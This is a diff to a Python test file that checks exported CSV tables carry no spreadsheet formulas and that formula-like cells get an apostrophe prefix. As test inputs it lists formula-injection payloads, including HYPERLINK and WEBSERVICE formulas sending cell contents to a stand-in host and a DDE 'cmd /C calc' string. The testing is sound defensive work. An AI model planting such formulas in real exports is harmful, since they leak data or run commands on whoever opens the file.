@@ -1,7 +1,8 @@
 """Texts of others in whatever leaves: a study whose title, labels, units and levels would act.
 
 Pages are opened in `test_workbench.py`, too; here are files: figures of each kind and format, CSV, the crate, Table 1
-in each form, notebooks' HTML, and code to copy. Nothing here writes a workbook: spreadsheets are read alone.
+in each form, notebooks' HTML, and code to copy. Files of a site are in `test_hostile_airlock.py`. No program of ours
+writes a workbook: spreadsheets are read alone.
 """
 
 from __future__ import annotations
@@ -18,8 +19,9 @@ from xml.etree import ElementTree
 import pandas as pd
 import pytest
 from delivered import cohort, cohort_plan, deliver, join
-from test_workbench import Read, csrf
-from web_stage import HOSTILE, ODD, WebStage, words
+from sources import PACKAGES, ROOT
+from test_workbench import Read, csrf, words
+from web_stage import HOSTILE, ODD, WebStage
 
 from coordinator.analyst.elsewhere import metafor_code, methods_text
 from coordinator.analyst.table_one import TableOne
@@ -28,7 +30,7 @@ from coordinator.web.interface.operations import FILES
 from coordinator.web.interface.reading import result_of
 from shared.plans.dictionary import Column
 from shared.plans.plan import sign_plan
-from shared.terminal import FORMULA
+from shared.terminal import FORMULA, without_formulas
 
 RUN = "=HYPERLINK(\"http://elsewhere.org?\"&A1,'<b>')"
 """What a spreadsheet would run, were it a cell."""
@@ -132,7 +134,33 @@ def test_in_no_csv_there_is_a_cell_that_a_spreadsheet_runs(web, answers, tmp_pat
     tables["table one"] = (tmp_path / "one.csv").read_text(encoding="utf-8")
     for name, text in tables.items():
         cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
-        assert [cell for cell in cells if FORMULA.match(cell)] == [], name
+        assert [cell for cell in cells if FORMULA.search(cell)] == [], name
+
+
+RUNS = {
+    '=HYPERLINK("http://elsewhere.org?"&A1)': '\'=HYPERLINK("http://elsewhere.org?"&A1)',
+    "@SUM(A1)": "'@SUM(A1)",
+    "-cmd|' /C calc'!A0": "'-cmd|' /C calc'!A0",
+    '+1+WEBSERVICE("http://elsewhere.org/"&A1)': '\'+1+WEBSERVICE("http://elsewhere.org/"&A1)',
+    "-2 * LOG10 (A1)": "'-2 * LOG10 (A1)",
+    "\t=A1": "'\t'=A1",
+    "\n=A1": "'\n'=A1",
+    "\uff1dA1": "'\uff1dA1",
+    "never;=A1;1": "never;'=A1;1",
+}
+PLAIN = ("-1 to 3", "-0.5 (1.2)", "-5 to -1 points (low)", "+", "sbp >= 3", "a = b; c (d)", "\u22121")
+
+
+def test_what_a_spreadsheet_runs_has_an_apostrophe_before_it_and_nothing_else_has():
+    written = without_formulas(pd.DataFrame({"level": [*RUNS, *PLAIN]}))
+    assert list(written["level"]) == [*RUNS.values(), *PLAIN]
+
+
+def test_no_program_writes_a_workbook():
+    writes = re.compile(r"to_excel|ExcelWriter|xlsxwriter|\bWorkbook\b")
+    files = [file for package in PACKAGES for file in (ROOT / package).rglob("*.py")]
+    assert [file for file in files if writes.search(file.read_text(encoding="utf-8"))] == []
+    assert len(files) > 100
 
 
 def described(web) -> TableOne:
